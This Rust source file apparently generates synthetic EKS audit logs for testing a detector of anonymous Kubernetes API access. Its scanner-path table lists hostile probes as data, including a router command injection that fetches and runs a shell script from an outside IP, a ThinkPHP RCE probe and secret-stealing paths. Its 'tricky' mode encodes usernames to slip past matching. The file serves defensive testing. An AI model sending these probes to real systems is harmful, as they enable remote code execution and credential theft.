                ],
                ..User::default()
            };
            ev.source_ips = vec![n.ip.clone()];
            ev.user_agent = version("kubelet/{v} (linux/amd64) {c}");
            (*rng.weighted(KUBELET_OPS), String::new())
        } else if pick < 450 {
            // workload service accounts
            let i = rng.below(self.sas.len());
            let sa = &self.sas[i];
            let (pod, pod_uid, pn) = rng.pick(&sa.pods).clone();
            let n = &self.nodes[pn];
            ev.user = User {
                username: format!("system:serviceaccount:{}:{}", sa.ns, sa.name),
                uid: sa.uid.clone(),
                groups: vec![
                    "system:serviceaccounts".into(),
                    format!("system:serviceaccounts:{}", sa.ns),
                    "system:authenticated".into(),
                ],
                extra: vec![
                    (
                        "authentication.kubernetes.io/credential-id",
                        format!("JTI={}", rng.uuid()),
                    ),
                    ("authentication.kubernetes.io/pod-name", pod.clone()),
                    ("authentication.kubernetes.io/pod-uid", pod_uid),
                ],
                ..User::default()
            };
            // VPC CNI: pod IPs come from the node's subnet.
            let subnet = n.ip.rsplit_once('.').map_or("10.0.16", |(s, _)| s);
            ev.source_ips = vec![format!("{subnet}.{}", rng.range(2, 254))];
            ev.user_agent = version(sa.agent);
            let op = *rng.pick(sa.ops);
            let reason = format!(
                "RBAC: allowed by {} to ServiceAccount \"{}/{}\"",
                sa.binding, sa.name, sa.ns
            );
            let mut op = op;
            if op.4 == "$pod" {
                op.4 = leak(pod);
            }
            (op, reason)
        } else if pick < 580 {
            // kube-controller-manager's per-controller service accounts
            let i = rng.below(CONTROLLERS.len());
            let (name, ops) = CONTROLLERS[i];
            ev.user = User {
                username: format!("system:serviceaccount:kube-system:{name}"),
                uid: self.controller_uids[i].clone(),
                groups: vec![
                    "system:serviceaccounts".into(),
                    "system:serviceaccounts:kube-system".into(),
                    "system:authenticated".into(),
                ],
                ..User::default()
            };
            ev.source_ips = vec!["127.0.0.1".into()];
            ev.user_agent = version(&format!(
                "kube-controller-manager/{{v}} (linux/amd64) {{c}}/system:serviceaccount:kube-system:{name}"
            ));
            let reason = format!(
                "RBAC: allowed by ClusterRoleBinding \"system:controller:{name}\" of ClusterRole \"system:controller:{name}\" to ServiceAccount \"{name}/kube-system\""
            );
            (*rng.pick(ops), reason)
        } else if pick < 940 {
            let cp: Vec<(u32, usize)> = CONTROL_PLANE
                .iter()
                .enumerate()
                .map(|(i, c)| (c.5, i))
                .collect();
            let (username, group, agent, binding, ops, _) = CONTROL_PLANE[*rng.weighted(&cp)];
            ev.user = User {
                username: username.into(),
                groups: vec![group.into()],
                ..User::default()
            };
            if username == "system:apiserver" {
                ev.user.uid = "2d7fc1e4-1c3b-4a4f-8a45-6c7d3f5e0b12".into();
                ev.source_ips = vec!["::1".into()];
            } else {
                ev.source_ips = vec!["127.0.0.1".into()];
            }
            ev.user_agent = version(agent);
            let reason = if binding.is_empty() {
                String::new()
            } else if binding.starts_with("RBAC: ") {
                binding.to_owned()
            } else {
                format!("RBAC: allowed by {binding}")
            };
            let mut op = *rng.pick(ops);
            if op.4 == "$apiserver" {
                op.4 = leak(self.apiserver_lease.clone());
            }
            (op, reason)
        } else {
            // humans and CI through aws-iam-authenticator
            let admin = pick < 975;
            let who = if admin { &self.admin } else { &self.deployer };
            ev.user = User {
                username: who.username.clone(),
                uid: who.uid.clone(),
                groups: if admin {
                    vec!["system:masters".into(), "system:authenticated".into()]
                } else {
                    vec!["system:authenticated".into()]
                },
                extra: vec![
                    ("accessKeyId", who.access_key.clone()),
                    (
                        "arn",
                        format!(
                            "arn:aws:sts::{ACCOUNT}:assumed-role/{}/{}",
                            who.role, who.session
                        ),
                    ),
                    (
                        "canonicalArn",
                        format!("arn:aws:iam::{ACCOUNT}:role/{}", who.role),
                    ),
                    ("principalId", who.principal_id.clone()),
                    ("sessionName", who.session.clone()),
                    (
                        "sigs.k8s.io/aws-iam-authenticator/principalArn",
                        format!("arn:aws:iam::{ACCOUNT}:role/{}", who.role),
                    ),
                ],
                ..User::default()
            };
            ev.source_ips = vec![rng.pick(&who.ips).clone()];
            let reason = if admin {
                "RBAC: allowed by ClusterRoleBinding \"cluster-admin\" of ClusterRole \"cluster-admin\" to Group \"system:masters\"".to_owned()
            } else {
                format!(
                    "EKS Access Policy: allowed by ClusterRoleBinding \"arn:aws:iam::{ACCOUNT}:role/{}+arn:aws:eks::aws:cluster-access-policy/AmazonEKSEditPolicy\" of ClusterRole \"arn:aws:eks::aws:cluster-access-policy/AmazonEKSEditPolicy\" to User \"{}\"",
                    who.role, who.username
                )
            };
            if admin {
                ev.user_agent = "kubectl/v1.31.2 (darwin/arm64) kubernetes/5864a46".into();
                let ops: &[(u32, Op)] = &[
                    (6, ("", "", "", "", "", "")), // discovery: /api, /apis
                    (6, ("get", "v1", "pods", "*", "*", "")),
                    (5, ("list", "v1", "pods", "*", "", "")),
                    (2, ("get", "v1", "pods", "*", "*", "log")),
                    (1, ("create", "v1", "pods", "*", "*", "exec")),
                    (2, ("patch", "apps/v1", "deployments", "*", "*", "")),
                    (2, ("list", "v1", "events", "*", "", "")),
                    (
                        1,
                        ("get", "v1", "configmaps", "kube-system", "aws-auth", ""),
                    ),
                    (1, ("delete", "v1", "pods", "*", "*", "")),
                    (1, ("list", "v1", "nodes", "", "", "")),
                ];
                (*rng.weighted(ops), reason)
            } else {
                ev.user_agent = "Helm/3.16.2".into();
                let ops: &[Op] = &[
                    ("list", "v1", "secrets", "*", "", ""),
                    ("get", "apps/v1", "deployments", "*", "*", ""),
                    ("patch", "apps/v1", "deployments", "*", "*", ""),
                    ("create", "v1", "secrets", "*", "", ""),
                    ("update", "v1", "secrets", "*", "*", ""),
                ];
                (*rng.pick(ops), reason)
            }
        };
        if op.0.is_empty() {
            // kubectl discovery
            ev.verb = "get".into();
            ev.uri = format!("{}?timeout=32s", rng.pick(&["/api", "/apis"]));
            ev.annotations = allow(&reason);
            return ev;
        }
        self.resource_request(rng, &mut ev, op, node);
        ev.annotations = allow(&reason);
        if ev.verb == "create"
            && ev
                .obj
                .as_ref()
                .is_some_and(|o| o.resource == "pods" && o.subresource.is_empty())
        {
            ev.annotations.push((
                "pod-security.kubernetes.io/enforce-policy".into(),
                "privileged:latest".into(),
            ));
            ev.annotations.push((
                "mutation.webhook.admission.k8s.io/round_0_index_0".into(),
                r#"{"configuration":"pod-identity-webhook","webhook":"iam-for-pods.amazonaws.com","mutated":false}"#.into(),
            ));
        }
        if (ev.verb == "list" && rng.chance(0.2)) || rng.chance(0.02) {
            let total = (ev.stage_us - ev.received_us).max(1) as f64 / 1000.0;
            ev.annotations.extend([
                (
                    "apiserver.latency.k8s.io/etcd".into(),
                    format!("{:.6}ms", total * 0.6),
                ),
                (
                    "apiserver.latency.k8s.io/response-write".into(),
                    format!("{}µs", rng.range(1, 90)),
                ),
                (
                    "apiserver.latency.k8s.io/serialize-response-object".into(),
                    format!("{:.6}ms", total * 0.3),
                ),
                (
                    "apiserver.latency.k8s.io/total".into(),
                    format!("{:.6}ms", total),
                ),
            ]);
        }
        ev
    }

    /// Fill in URI, verb, objectRef and status of a resource request.
    fn resource_request(&mut self, rng: &mut Rng, ev: &mut Ev, op: Op, node: usize) {
        let (verb, gv, resource, ns, name, sub) = op;
        let ns = match ns {
            "*" => *rng.pick(APP_NAMESPACES),
            ns => ns,
        };
        let name = match name {
            "$node" => self.nodes[node].name.clone(),
            "$pod" => object_name(rng, "pods"),
            "*" => object_name(rng, resource),
            n => n.to_owned(),
        };
        let (group, version) = gv.rsplit_once('/').unwrap_or(("", gv));
        let mut uri = if group.is_empty() {
            format!("/api/{version}")
        } else {
            format!("/apis/{group}/{version}")
        };
        if !ns.is_empty() {
            let _ = write!(uri, "/namespaces/{ns}");
        }
        let _ = write!(uri, "/{resource}");
        let named = !name.is_empty() && !matches!(verb, "list" | "watch");
        if named {
            let _ = write!(uri, "/{name}");
            if !sub.is_empty() {
                let _ = write!(uri, "/{sub}");
            }
        }
        let rv = self.rv;
        match verb {
            "watch" => {
                let t = rng.range(300, 599);
                let selector = if !name.is_empty() {
                    format!("fieldSelector=metadata.name%3D{name}&")
                } else if resource == "pods" && ev.user.username.starts_with("system:node:") {
                    format!("fieldSelector=spec.nodeName%3D{}&", self.nodes[node].name)
                } else {
                    String::new()
                };
                let _ = write!(
                    uri,
                    "?allowWatchBookmarks=true&{selector}resourceVersion={rv}&timeout={}m{}s&timeoutSeconds={t}&watch=true",
                    t / 60,
                    t % 60
                );
                if rng.chance(0.5) {
                    ev.stage = "ResponseStarted";
                    ev.stage_us = ev.received_us + rng.range(200, 2500) as i64;
                } else {
                    ev.received_us -= t as i64 * 1_000_000;
                }
            }
            "list" => uri.push_str(rng.pick::<&str>(&[
                "?limit=500&resourceVersion=0",
                "?resourceVersion=0",
                "?limit=500",
                "",
            ])),
            "get" if resource == "nodes" || resource == "leases" => uri.push_str("?timeout=10s"),
            "get" if sub == "log" => {
                let _ = write!(
                    uri,
                    "?container=app&follow=true&tailLines={}",
                    rng.pick(&[10, 50, 100])
                );
            }
            "create" if sub == "exec" => uri.push_str(
                "?command=sh&command=-c&command=env&container=app&stderr=true&stdout=true",
            ),
            "patch" | "update" | "create" => {
                if ev.user_agent.starts_with("kubectl") {
                    uri.push_str("?fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
                } else if ev.user_agent.starts_with("Helm") {
                    uri.push_str("?fieldManager=helm");
                } else {
                    uri.push_str("?timeout=10s");
                }
            }
            _ => {}
        }
        ev.uri = uri;
        ev.verb = verb.to_owned();
        ev.obj = Some(ObjRef {
            resource: resource.into(),
            namespace: ns.into(),
            name: if named { name.clone() } else { String::new() },
            api_group: group.into(),
            api_version: version.into(),
            subresource: if named { sub.into() } else { String::new() },
        });
        let gr = if group.is_empty() {
            resource.to_owned()
        } else {
            format!("{resource}.{group}")
        };
        let details = |name: &str| {
            if group.is_empty() {
                format!(r#"{{"name":"{name}","kind":"{resource}"}}"#)
            } else {
                format!(r#"{{"name":"{name}","group":"{group}","kind":"{resource}"}}"#)
            }
        };
        ev.status = Some(match verb {
            "create" if sub == "exec" => Status {
                code: 101,
                failure: None,
            },
            "create" => Status {
                code: 201,
                failure: None,
            },
            "get" if rng.chance(0.03) && resource != "nodes" => Status {
                code: 404,
                failure: Some((
                    format!("{gr} \"{name}\" not found"),
                    "NotFound",
                    details(&name),
                )),
            },
            "update" if resource == "leases" && rng.chance(0.02) => Status {
                code: 409,
                failure: Some((
                    format!(
                        "Operation cannot be fulfilled on {gr} \"{name}\": the object has been modified; please apply your changes to the latest version and try again"
                    ),
                    "Conflict",
                    details(&name),
                )),
            },
            _ => Status {
                code: 200,
                failure: None,
            },
        });
        if verb == "patch"
            && (ev.user_agent.starts_with("kubectl") || ev.user_agent.starts_with("Helm"))
        {
            ev.level = "Request";
            let stamp = {
                let mut s = String::new();
                timestamp(&mut s, ev.received_us);
                s[..19].to_owned() + "Z"
            };
            ev.request_object = Some(format!(
                r#"{{"spec":{{"template":{{"metadata":{{"annotations":{{"kubectl.kubernetes.io/restartedAt":"{stamp}"}}}}}}}}}}"#
            ));
        }
    }

    /// An anonymous request: mostly internet scanners on the public
    /// endpoint, some health checks from inside the VPC.
    fn anonymous(&mut self, rng: &mut Rng) -> Ev {
        let mut ev = self.base(rng);
        ev.user = anonymous_user();
        ev.matches = true;
        if rng.chance(0.3) {
            // health checks from inside the VPC
            let (agent, path) = *rng.weighted(&[
                (6, ("kube-probe/1.29", "/livez")),
                (3, ("kube-probe/1.29", "/readyz")),
                (2, ("ELB-HealthChecker/2.0", "/healthz")),
                (1, ("Go-http-client/1.1", "/healthz?timeout=5s")),
            ]);
            ev.verb = "get".into();
            ev.uri = path.into();
            ev.user_agent = agent.into();
            ev.source_ips = vec![format!("10.0.{}.{}", rng.range(0, 95), rng.range(2, 254))];
            ev.annotations = allow(PUBLIC_INFO);
            return ev;
        }
        let ip = rng.pick(&self.scanners).clone();
        ev.source_ips = vec![ip];
        let (method, uri, agent) = scanner_probe(rng);
        ev.user_agent = agent.into();
        ev.uri = uri.into();
        self.anonymous_outcome(&mut ev, method);
        if rng.chance(0.03) {
            // a bearer token the authenticator rejected
            ev.status = Some(Status {
                code: 401,
                failure: Some(("Unauthorized".into(), "Unauthorized", "{}".into())),
            });
            ev.annotations.clear();
        }
        ev
    }

    /// A request refused by authentication, as kubernetes `authn_audit.go`
    /// logs it: stage ResponseStarted, `"user":{}`, no annotations, and a
    /// 401 whose message says no credentials were presented (what a
    /// scanner's request becomes where anonymous access is off, e.g. EKS
    /// 1.32+ beyond the health paths). The `unauthenticated` rule's row.
    fn refused(&mut self, rng: &mut Rng) -> Ev {
        let mut ev = self.base(rng);
        ev.user.empty = true;
        ev.refused = true;
        ev.stage = "ResponseStarted";
        ev.stage_us = ev.received_us + rng.range(40, 900) as i64;
        ev.source_ips = vec![rng.pick(&self.scanners).clone()];
        let (method, uri, agent) = scanner_probe(rng);
        ev.user_agent = agent.into();
        ev.uri = uri.into();
        // The verb and objectRef as for any request (the request info is
        // resolved before authentication); the outcome is the 401.
        self.anonymous_outcome(&mut ev, method);
        ev.status = Some(Status {
            code: 401,
            failure: None,
        });
        ev.annotations.clear();
        ev
    }

    /// Verb, objectRef and response for an anonymous request to `ev.uri`.
    fn anonymous_outcome(&mut self, ev: &mut Ev, method: &str) {
        let path = ev.uri.split('?').next().unwrap_or("").to_owned();
        let segs: Vec<&str> = path.trim_start_matches('/').split('/').collect();
        let resource_path = match segs.as_slice() {
            ["api", "v1", rest @ ..] if !rest.is_empty() => Some(("", "v1", rest.to_vec())),
            ["apis", g, v, rest @ ..] if !rest.is_empty() => Some((*g, *v, rest.to_vec())),
            _ => None,
        };
        let public = matches!(
            path.as_str(),
            "/version" | "/healthz" | "/livez" | "/readyz" | "/version/"
        );
        match resource_path {
            None => {
                ev.verb = method.to_lowercase();
                if public && method == "GET" {
                    ev.annotations = allow(PUBLIC_INFO);
                } else {
                    ev.status = Some(Status {
                        code: 403,
                        failure: Some((
                            format!(
                                "forbidden: User \"system:anonymous\" cannot {} path \"{}\"",
                                ev.verb, path
                            ),
                            "Forbidden",
                            "{}".into(),
                        )),
                    });
                    ev.annotations = forbid();
                }
            }
            Some((group, version, rest)) => {
                let (ns, rest) = match rest.as_slice() {
                    ["namespaces", ns, r @ ..] if !r.is_empty() => (*ns, r.to_vec()),
                    r => ("", r.to_vec()),
                };
                let resource = rest[0];
                let name = rest.get(1).copied().unwrap_or("");
                let verb = match (method, name.is_empty()) {
                    ("GET", true) if ev.uri.contains("watch=true") => "watch",
                    ("GET", true) => "list",
                    ("GET", false) => "get",
                    ("POST", _) => "create",
                    ("DELETE", _) => "delete",
                    ("PATCH", _) => "patch",
                    _ => "update",
                };
                ev.verb = verb.into();
                ev.obj = Some(ObjRef {
                    resource: resource.into(),
                    namespace: ns.into(),
                    name: name.into(),
                    api_group: group.into(),
                    api_version: version.into(),
                    subresource: rest.get(2).copied().unwrap_or("").into(),
                });
                let what = if name.is_empty() {
                    resource.to_owned()
                } else {
                    format!("{resource} \"{name}\"")
                };
                let gr = if group.is_empty() {
                    what
                } else {
                    what.replacen(resource, &format!("{resource}.{group}"), 1)
                };
                let scope = if ns.is_empty() {
                    "at the cluster scope".to_owned()
                } else {
                    format!("in the namespace \"{ns}\"")
                };
                let details = if group.is_empty() {
                    if name.is_empty() {
                        format!(r#"{{"kind":"{resource}"}}"#)
                    } else {
                        format!(r#"{{"name":"{name}","kind":"{resource}"}}"#)
                    }
                } else if name.is_empty() {
                    format!(r#"{{"group":"{group}","kind":"{resource}"}}"#)
                } else {
                    format!(r#"{{"name":"{name}","group":"{group}","kind":"{resource}"}}"#)
                };
                ev.status = Some(Status {
                    code: 403,
                    failure: Some((
                        format!(
                            "{gr} is forbidden: User \"system:anonymous\" cannot {verb} resource \"{resource}\" in API group \"{group}\" {scope}"
                        ),
                        "Forbidden",
                        details,
                    )),
                });
                ev.annotations = forbid();
            }
        }
    }

    /// The `--tricky` edge cases: (matches, how the user is written).
    fn tricky(&self, rng: &mut Rng, ev: &mut Ev) {
        let q = |s: &str| format!("\"{s}\"");
        let case = rng.below(12);
        let mut agent = None;
        let u = &mut ev.user;
        let matches = match case {
            0 => {
                u.username = "System:Anonymous".into();
                true
            }
            1 => {
                u.username_json = Some(q(r"system\u003aanonymous"));
                true
            }
            2 => {
                u.username_json = Some(q(
                    r"\u0073\u0079\u0073\u0074\u0065\u006d\u003A\u0061\u006E\u006F\u006E\u0079\u006D\u006F\u0075\u0073",
                ));
                true
            }
            3 => {
                u.groups = vec![
                    "system:authenticated".into(),
                    "SYSTEM:UNAUTHENTICATED".into(),
                ];
                true
            }
            4 => {
                u.groups_json = Some(r#"["system:un\u0061uthenticated"]"#.into());
                true
            }
            5 => {
                u.username_key = Some(r"user\u006eame");
                true
            }
            6 => {
                u.groups_json = Some(q("system:unauthenticated"));
                false
            }
            7 => {
                u.groups.clear();
                false
            }
            8 => {
                u.groups = vec!["system:masters".into(), "system:authenticated".into()];
                false
            }
            9 => {
                u.username = "system:anonymous ".into();
                false
            }
            10 => {
                u.username_json = Some(q(r"system:anonymous\u0000"));
                false
            }
            _ => {
                // an authenticated user whose request mentions the name
                *u = User {
                    username: "system:serviceaccount:default:anonymous-reporter".into(),
                    uid: rng.uuid(),
                    groups: vec![
                        "system:serviceaccounts".into(),
                        "system:serviceaccounts:default".into(),
                        "system:authenticated".into(),
                    ],
                    ..User::default()
                };
                agent = Some("system:anonymous/1.0 (system:unauthenticated)");
                false
            }
        };
        ev.matches = matches;
        if let Some(a) = agent {
            ev.user_agent = a.into();
        }
    }
}

const PUBLIC_INFO: &str = "RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\" of ClusterRole \"system:public-info-viewer\" to Group \"system:unauthenticated\"";

/// A scanner's probe: its method, path and user agent (kubectl only for
/// API paths; web scanners for everything).
fn scanner_probe(rng: &mut Rng) -> (&'static str, &'static str, &'static str) {
    let (method, uri) = *rng.weighted(SCANNER_PATHS);
    let agent = loop {
        let a = *rng.pick(SCANNER_AGENTS);
        if !a.starts_with("kubectl") || uri.starts_with("/api") {
            break a;
        }
    };
    (method, uri, agent)
}

const SCANNER_AGENTS: &[&str] = &[
    "python-requests/2.31.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "curl/8.5.0",
    "curl/7.88.1",
    "l9explore/1.2.2",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please contact us at scaninfo@paloaltonetworks.com",
    "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)",
    "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
    "Custom-AsyncHttpClient",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "",
];

/// (HTTP method, requestURI) weighted.
const SCANNER_PATHS: &[(u32, (&str, &str))] = &[
    (6, ("GET", "/")),
    (4, ("HEAD", "/")),
    (12, ("GET", "/version")),
    (4, ("GET", "/version?timeout=32s")),
    (5, ("GET", "/healthz")),
    (6, ("GET", "/api")),
    (5, ("GET", "/apis")),
    (3, ("GET", "/api/v1")),
    (6, ("GET", "/.env")),
    (2, ("GET", "/.git/config")),
    (
        3,
        (
            "POST",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        ),
    ),
    (3, ("GET", "/vendor/phpunit/src/Util/PHP/eval-stdin.php")),
    (3, ("GET", "/metrics")),
    (2, ("GET", "/openapi/v2")),
    (2, ("GET", "/.well-known/openid-configuration")),
    (2, ("GET", "/favicon.ico")),
    (2, ("GET", "/robots.txt")),
    (2, ("GET", "/wp-login.php")),
    (1, ("GET", "/actuator/env")),
    (1, ("GET", "/server-status")),
    (1, ("POST", "/boaform/admin/formLogin")),
    (
        1,
        (
            "GET",
            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F45.148.10.95%2Fx.sh%7Csh%60)",
        ),
    ),
    (
        1,
        (
            "GET",
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
        ),
    ),
    (1, ("GET", "/solr/admin/info/system?wt=json")),
    (1, ("POST", "/HNAP1/")),
    (6, ("GET", "/api/v1/namespaces/kube-system/secrets")),
    (5, ("GET", "/api/v1/pods")),
    (4, ("GET", "/api/v1/namespaces")),
    (3, ("GET", "/api/v1/nodes")),
    (3, ("GET", "/api/v1/secrets")),
    (2, ("GET", "/api/v1/namespaces/default/pods")),
    (
        2,
        ("GET", "/api/v1/namespaces/kube-system/configmaps/aws-auth"),
    ),
    (2, ("GET", "/apis/apps/v1/deployments")),
    (
        2,
        (
            "GET",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        ),
    ),
    (1, ("POST", "/api/v1/namespaces/default/pods")),
    (
        1,
        ("POST", "/apis/batch/v1/namespaces/kube-system/cronjobs"),
    ),
    (1, ("GET", "/api/v1/namespaces/default/pods?watch=true")),
    (
        1,
        (
            "GET",
            "/api/v1/namespaces/kube-system/pods/kube-proxy-x7k2p/exec?command=id&stdout=true",
        ),
    ),
];

fn anonymous_user() -> User {
    User {
        username: "system:anonymous".into(),
        groups: vec!["system:unauthenticated".into()],
        ..User::default()
    }
}

fn allow(reason: &str) -> Vec<(String, String)> {
    vec![
        ("authorization.k8s.io/decision".into(), "allow".into()),
        ("authorization.k8s.io/reason".into(), reason.into()),
    ]
}

fn forbid() -> Vec<(String, String)> {
    vec![
        ("authorization.k8s.io/decision".into(), "forbid".into()),
        ("authorization.k8s.io/reason".into(), String::new()),
    ]
}

/// Request latency: mostly a few milliseconds, with a long tail.
fn latency_us(rng: &mut Rng) -> i64 {
    let base = rng.range(400, 6000) as i64;
    if rng.chance(0.05) {
        base * rng.range(5, 60) as i64
    } else {
        base
    }
}

fn version(agent: &str) -> String {
    agent.replace("{v}", K8S).replace("{c}", K8S_COMMIT)
}

fn object_name(rng: &mut Rng, resource: &str) -> String {
    let base = *rng.pick(OBJECT_NAMES);
    match resource {
        "pods" => format!("{base}-{}-{}", rng.lower(10), rng.lower(5)),
        "replicasets" => format!("{base}-{}", rng.lower(10)),
        "jobs" => format!("{base}-{}", rng.range(28_900_000, 29_100_000)),
        "serviceaccounts" => rng
            .pick(&["default", "fluent-bit", "grafana", "payments-api"])
            .to_string(),
        "secrets" => format!("sh.helm.release.v1.{base}.v{}", rng.range(1, 40)),
        "endpointslices" => format!("{base}-{}", rng.lower(5)),
        "volumeattachments" => format!("csi-{}", rng.hex(64)),
        "nodeclaims" => format!("general-{}", rng.lower(5)),
        _ => base.to_owned(),
    }
}

fn leak(s: String) -> &'static str {
    // A handful of distinct strings per run at most would be fine, but ops
    // are per event: intern instead of leaking unboundedly.
    thread_local! {
        static INTERNED: std::cell::RefCell<std::collections::HashSet<&'static str>> = Default::default();
    }
    INTERNED.with(|set| {
        let mut set = set.borrow_mut();
        if let Some(&s) = set.get(s.as_str()) {
            return s;
        }
        let s: &'static str = Box::leak(s.into_boxed_str());
        set.insert(s);
        s
    })
}

// ---------------------------------------------------------------- output

struct Out {
    w: BufWriter<io::StdoutLock<'static>>,
    line: String,
    bytes: u64,
    lines: u64,
    events: u64,
    matching: u64,
    refused: u64,
}

impl Out {
    fn event(&mut self, ev: &Ev) {
        self.line.clear();
        ev.write(&mut self.line);
        self.events += 1;
        self.matching += u64::from(ev.matches);
        self.refused += u64::from(ev.refused);
        if self.events <= 5000 {
            // Cheap insurance that every shape we write is valid JSON.
            if let Err(e) = serde_json::from_str::<serde_json::Value>(&self.line) {
                eprintln!("gen_audit: bug: invalid JSON ({e}): {}", self.line);
                exit(1);
            }
        }
        self.emit();
    }
    fn raw(&mut self, line: &str) {
        self.line.clear();
        self.line.push_str(line);
        self.emit();
    }
    fn emit(&mut self) {
        self.line.push('\n');
        self.bytes += self.line.len() as u64;
        self.lines += 1;
        if let Err(e) = self.w.write_all(self.line.as_bytes()) {
            fail_write(e);
        }
    }
    fn finish(mut self) {
        if let Err(e) = self.w.flush() {
            fail_write(e);
        }
        // The refused count only where there are some: the summary of
        // every input made before `--refused-ratio` stays as it was.
        let refused = if self.refused > 0 {
            format!(", {} refused", self.refused)
        } else {
            String::new()
        };
        eprintln!(
            "gen_audit: {} events, {} matching{refused}, {} lines, {} bytes",
            self.events, self.matching, self.lines, self.bytes
        );
    }
}

fn fail_write(e: io::Error) -> ! {
    if e.kind() == io::ErrorKind::BrokenPipe {
        exit(0);
    }
    eprintln!("gen_audit: write error: {e}");
    exit(1);
}

/// One request: occasionally logged at RequestReceived too (same auditID).
fn request(out: &mut Out, rng: &mut Rng, ev: Ev, received_share: f64) {
    if ev.stage == "ResponseComplete" && rng.chance(received_share) {
        let mut rr = ev.clone();
        rr.stage = "RequestReceived";
        rr.stage_us = rr.received_us;
        rr.status = None;
        rr.annotations.clear();
        out.event(&rr);
    }
    out.event(&ev);
}

/// Generates realistic EKS audit log lines on stdout (deterministic for a
/// seed and options).
#[derive(clap::Parser)]
#[command(name = "gen_audit")]
struct Opts {
    /// Stop after at least N bytes (K/M/G are 1024-based) [default: 1000 events].
    #[arg(long, value_name = "N[K|M|G]", value_parser = parse_size, conflicts_with = "events")]
    size: Option<u64>,
    /// Stop after N events.
    #[arg(long, value_name = "N")]
    events: Option<u64>,
    /// Share of anonymous events, 0 to 1.
    #[arg(long = "anonymous-ratio", value_name = "R", default_value_t = 0.002, value_parser = ratio)]
    ratio: f64,
    /// PRNG seed.
    #[arg(long, value_name = "N", default_value_t = 1)]
    seed: u64,
    /// Share of events that are refused authentications (401, `"user":{}`,
    /// as kubernetes authn_audit.go logs them), 0 to 1; drawn before the
    /// anonymous share, which applies to the rest. 0 leaves the output
    /// byte for byte as without it.
    #[arg(long = "refused-ratio", value_name = "R", default_value_t = 0.0, value_parser = ratio)]
    refused: f64,
    /// Share of anonymous events written in edge-case encodings, 0 to 1.
    #[arg(long, value_name = "R", default_value_t = 0.0, value_parser = ratio)]
    tricky: f64,
    /// Anonymous and refused requests come through a forged
    /// `X-Forwarded-For` of N addresses, which the API server copies into
    /// `sourceIPs` before the connection's own (distinct within a request,
    /// in 10.0.0.0/8; 15,999 fit under CloudWatch's 256 KB). Drawn from no
    /// random number: 0 leaves the output byte for byte as without it.
    #[arg(long, value_name = "N", default_value_t = 0)]
    xff: usize,
    /// Write the bundled sample (examples/eks-audit-sample.jsonl) instead.
    #[arg(long, conflicts_with_all = ["size", "events", "ratio", "refused", "seed", "tricky"])]
    sample: bool,
}

fn parse_size(s: &str) -> Result<u64, String> {
    let t = s.trim().trim_end_matches(['B', 'b']);
    let (num, mul) = match t.char_indices().last() {
        Some((i, 'K' | 'k')) => (&t[..i], 1u64 << 10),
        Some((i, 'M' | 'm')) => (&t[..i], 1 << 20),
        Some((i, 'G' | 'g')) => (&t[..i], 1 << 30),
        _ => (t, 1),
    };
    match num.parse::<f64>() {
        Ok(n) if n >= 0.0 => Ok((n * mul as f64) as u64),
        _ => Err(format!("'{s}' is not a size (N, NK, NM or NG)")),
    }
}

fn ratio(s: &str) -> Result<f64, String> {
    match s.parse::<f64>() {
        Ok(r) if (0.0..=1.0).contains(&r) => Ok(r),
        _ => Err(format!("'{s}' is not a ratio between 0 and 1")),
    }
}

fn main() {
    let o = <Opts as clap::Parser>::parse();
    let mut out = Out {
        w: BufWriter::with_capacity(1 << 20, io::stdout().lock()),
        line: String::with_capacity(16 << 10),
        bytes: 0,
        lines: 0,
        events: 0,
        matching: 0,
        refused: 0,
    };
    if o.sample {
        sample(&mut out);
        out.finish();
        return;
    }
    let mut rng = Rng(o.seed);
    let mut world = World::new(&mut rng);
    let (max_bytes, max_events) = match (o.size, o.events) {
        (None, None) => (u64::MAX, 1000),
        (s, e) => (s.unwrap_or(u64::MAX), e.unwrap_or(u64::MAX)),
    };
    while out.bytes < max_bytes && out.events < max_events {
        // No draw when there are no refusals, so the stream is as before.
        let refused = o.refused > 0.0 && (o.refused >= 1.0 || rng.chance(o.refused));
        let ev = if refused {
            world.refused(&mut rng)
        } else if o.ratio >= 1.0 || rng.chance(o.ratio) {
            let mut ev = world.anonymous(&mut rng);
            if o.tricky > 0.0 && rng.chance(o.tricky) {
                world.tricky(&mut rng, &mut ev);
            }
            ev
        } else {
            world.authenticated(&mut rng)
        };
        let ev = if ev.matches || ev.refused {
            forwarded(ev, o.xff, out.events)
        } else {
            ev
        };
        request(&mut out, &mut rng, ev, 0.04);
    }
    out.finish();
}

/// `ev` as if it came through an `X-Forwarded-For` of `n` addresses (the
/// `n`th request's own, none repeated within it), its connection's address
/// last, as kubernetes `utilnet.SourceIPs` lists them.
fn forwarded(mut ev: Ev, n: usize, nth: u64) -> Ev {
    if n == 0 {
        return ev;
    }
    let base = nth as usize * n;
    let mut ips: Vec<String> = (0..n)
        .map(|j| {
            let k = (base + j) % (1 << 24);
            format!("10.{}.{}.{}", k >> 16, (k >> 8) & 255, k & 255)
        })
        .collect();
    ips.append(&mut ev.source_ips);
    ev.source_ips = ips;
    ev
}

// ---------------------------------------------------------------- the sample

/// The bundled sample: generated traffic with a 5% anonymous share, and
/// hand-written events placed through it.
fn sample(out: &mut Out) {
    let mut rng = Rng(2025);
    let mut world = World::new(&mut rng);
    // A sample spans a few minutes, not a fraction of a second.
    world.max_step_us = 1_500_000;
